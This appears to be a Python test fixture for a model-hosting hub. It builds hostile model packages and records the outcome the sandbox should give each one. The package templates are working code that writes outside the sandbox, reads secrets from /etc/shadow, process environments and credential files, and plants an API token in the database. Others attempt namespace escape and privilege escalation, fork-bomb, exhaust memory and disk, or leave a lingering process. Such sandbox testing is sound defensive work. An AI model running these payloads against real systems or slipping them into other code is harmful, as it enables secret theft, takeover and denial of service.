"""A corpus of hostile model packages: each one attacks the hub from inside its smoke generation.

Every package is a valid v2 package (the test suite's noise card) whose code also attacks. A
package that can tell its attack failed returns ordinary samples, so its release passes every
check; one whose evidence must reach the test prints a probe line and fails on purpose, so its
own stderr is quoted in the ``smoke_generation`` message. :data:`CASES` names, per package, the
state and the check message the hub must answer with.
"""

from __future__ import annotations

import json
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests import factories


@dataclass(frozen=True)
class Targets:
    """What the packages aim at: the hub's own paths, secrets' prefix, a listener on the host."""

    data_dir: Path
    repo_root: Path
    host_marker: Path
    listener_port: int
    canary_prefix: str
    admin_token: str
    linger_marker: str


@dataclass(frozen=True)
class Case:
    """One hostile package: its name, source, and the outcome the hub must give it."""

    name: str
    state: str
    check_status: str
    message: str


# Shared by every package: ordinary samples for the noise card (16x16 uint8).
_SAMPLES = """
def _samples(num_samples, seed):
    import numpy as np

    rng = np.random.default_rng(seed)
    return rng.integers(0, 128, size=(num_samples, 16, 16), dtype=np.int64).astype(np.uint8)
"""

_WRITES = """
import os

TARGETS = {targets}


def _try_writes(tag):
    escaped = []
    for path in TARGETS:
        try:
            with open(path + tag, "w") as handle:
                handle.write("pwned")
            escaped.append(path + tag)
        except OSError:
            pass
    return escaped


ESCAPED_AT_IMPORT = _try_writes("-import")


def generate(num_samples, *, seed, device="cpu", brightness=0):
    # Some paths exist inside the sandbox too (its own /tmp): only the host can tell an escape.
    print("WRITEPROBE wrote " + repr(ESCAPED_AT_IMPORT + _try_writes("-generate")), flush=True)
    return _samples(num_samples, seed)
"""

_READS = """
import glob
import os
import re

PATHS = {paths}
PATTERN = re.compile({canary!r} + r"[A-Za-z0-9_-]+")


def generate(num_samples, *, seed, device="cpu", brightness=0):
    readable, found = [], set()
    candidates = list(PATHS) + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for path in candidates:
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 20)
        except OSError:
            continue
        readable.append(path)
        found.update(PATTERN.findall(data.decode("latin-1")))
    found.update(PATTERN.findall(repr(dict(os.environ))))
    # Positions in PATHS, not the paths: the hub shows a package's messages with every path
    # outside the package replaced, which would hide which file was readable.
    positions = sorted(PATHS.index(p) for p in readable if p in PATHS)
    print("LEAKPROBE readable=" + repr(positions), flush=True)
    print("LEAKPROBE found=" + repr(sorted(found)), flush=True)
    raise RuntimeError("LEAKPROBE done")
"""

_DATABASE = """
import hashlib
import socket
import sqlite3

DATABASE = {database!r}
TOKEN = {token!r}


def generate(num_samples, *, seed, device="cpu", brightness=0):
    try:
        connection = sqlite3.connect(DATABASE, timeout=2)
        user = connection.execute("SELECT id FROM auth_user WHERE username='reviewer'").fetchone()
        connection.execute(
            "INSERT INTO accounts_apitoken (user_id, name, key_prefix, key_sha256, created_at) "
            "VALUES (?, 'pwned', 'pwned', ?, datetime('now'))",
            (user[0], hashlib.sha256(TOKEN.encode()).hexdigest()),
        )
        connection.commit()
    except Exception:
        pass
    for port in (5432, 6379, 5672):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            raise RuntimeError(f"ESCAPED reached port {{port}}")
        except OSError:
            pass
    return _samples(num_samples, seed)
"""

_NETWORK = """
import ctypes
import glob
import os
import socket

PORT = {port}
CLONE_NEWNET = 0x40000000
CLONE_NEWUSER = 0x10000000


def _reach():
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=1).close()
        return True
    except OSError:
        return False


def generate(num_samples, *, seed, device="cpu", brightness=0):
    libc = ctypes.CDLL(None, use_errno=True)
    reached = _reach()
    for path in glob.glob("/proc/[0-9]*/ns/net") + ["/proc/1/ns/net"]:
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, CLONE_NEWNET) == 0:
            reached = reached or _reach()
        os.close(fd)
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0:
        reached = reached or _reach()
    if reached:
        raise RuntimeError("ESCAPED reached the host's network")
    return _samples(num_samples, seed)
"""

_FORKS = """
import os
import time


def generate(num_samples, *, seed, device="cpu", brightness=0):
    spawned = 0
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        spawned += 1
    raise RuntimeError(f"FORKPROBE spawned {{spawned}} of 400")
"""

_MEMORY = """
import os
import signal

import numpy as np

CHILDREN = 4
EACH = 600 << 20


def generate(num_samples, *, seed, device="cpu", brightness=0):
    pids = []
    for _ in range(CHILDREN):
        pid = os.fork()
        if pid == 0:
            hog = np.ones(EACH, dtype=np.uint8)
            os._exit(int(hog[-1]) - 1)
        pids.append(pid)
    killed = 0
    for pid in pids:
        _, status = os.waitpid(pid, 0)
        killed += os.WIFSIGNALED(status)
    if killed:
        os.kill(os.getpid(), signal.SIGKILL)
    raise RuntimeError(f"HOGPROBE all {{CHILDREN}} children held {{EACH}} bytes each")
"""

_DISK = """
import os

CHUNK = b"x" * (1 << 20)


def generate(num_samples, *, seed, device="cpu", brightness=0):
    written = 0
    folders = (os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~"), "/tmp", os.getcwd())
    for index, folder in enumerate(folders):
        try:
            with open(os.path.join(folder, f"filler-{{index}}.bin"), "wb") as handle:
                for _ in range(300):
                    handle.write(CHUNK)
                    handle.flush()
                    written += len(CHUNK)
        except OSError:
            pass
    raise RuntimeError(f"DISKPROBE wrote {{written}} bytes")
"""

_LINGER = """
import os
import sys

MARKER = {marker!r}


def generate(num_samples, *, seed, device="cpu", brightness=0):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", MARKER])
        os._exit(0)
    os.wait()
    return _samples(num_samples, seed)
"""

_PRIVILEGES = """
import ctypes
import os


def generate(num_samples, *, seed, device="cpu", brightness=0):
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/status") as handle:
        status = dict(line.split(":", 1) for line in handle if ":" in line)
    try:
        os.setuid(0)
        setuid = "allowed"
    except OSError:
        setuid = "denied"
    mount = "allowed" if libc.mount(b"none", b"/sandbox", b"tmpfs", 0, None) == 0 else "denied"
    nnp = status.get("NoNewPrivs", "").strip()
    print(
        f"PRIVPROBE uid={{os.getuid()}} capeff={{status['CapEff'].strip()}} "
        f"capbnd={{status['CapBnd'].strip()}} setuid0={{setuid}} mount={{mount}} nnp={{nnp}}",
        flush=True,
    )
    raise RuntimeError("PRIVPROBE done")
"""


def _source(case: str, targets: Targets) -> str:
    data = targets.data_dir
    sources: dict[str, str] = {
        "writes_outside": _WRITES.format(
            targets=repr(
                [
                    str(data / "pwned"),
                    str(data / "hub.sqlite3.pwned"),
                    str(data / "media" / "pwned"),
                    str(targets.repo_root / "pwned"),
                    str(targets.host_marker),
                    "/sandbox/package/pwned",
                    "/dev/shm/pwned",
                ]
            )
        ),
        "reads_secrets": _READS.format(
            paths=repr(
                [
                    str(data / "demo-credentials.json"),
                    str(data / "hub.sqlite3"),
                    str(targets.repo_root / "hub" / "settings" / "__init__.py"),
                    "/proc/1/environ",
                    "/etc/shadow",
                ]
            ),
            canary=targets.canary_prefix,
        ),
        "takes_over_database": _DATABASE.format(
            database=str(data / "hub.sqlite3"), token=targets.admin_token
        ),
        "escapes_network": _NETWORK.format(port=targets.listener_port),
        "fork_bomb": _FORKS.format(),
        "memory_hog": _MEMORY.format(),
        "fills_disk": _DISK.format(),
        "lingers": _LINGER.format(marker=targets.linger_marker),
        "escalates": _PRIVILEGES.format(),
    }
    return _SAMPLES + textwrap.dedent(sources[case])


# The outcome each package must get: (state, smoke_generation status, message fragment).
CASES = [
    Case("writes_outside", "in_review", "passed", "in the sandbox (bubblewrap"),
    Case("reads_secrets", "rejected", "failed", "LEAKPROBE found=[]"),
    Case("takes_over_database", "in_review", "passed", "in the sandbox (bubblewrap"),
    Case("escapes_network", "in_review", "passed", "in the sandbox (bubblewrap"),
    Case("fork_bomb", "rejected", "failed", "FORKPROBE spawned"),
    Case("memory_hog", "rejected", "failed", "more than its memory limit"),
    Case("fills_disk", "rejected", "failed", "DISKPROBE wrote"),
    Case("lingers", "in_review", "passed", "in the sandbox (bubblewrap"),
    Case("escalates", "rejected", "failed", "setuid0=denied mount=denied nnp=1"),
]


def hostile_package_zip(root: Path, case: str, targets: Targets) -> tuple[Path, dict[str, Any]]:
    """The zip and card of the hostile package ``case`` (model ``mallory/<case>``)."""
    card = factories.card_data(model_id=f"mallory/{case.replace('_', '-')}", version="1.0.0")
    archive = root / f"{case}.zip"
    with zipfile.ZipFile(archive, "w") as handle:
        handle.writestr("__init__.py", _source(case, targets))
        handle.writestr("card.json", json.dumps(card))
    return archive, card
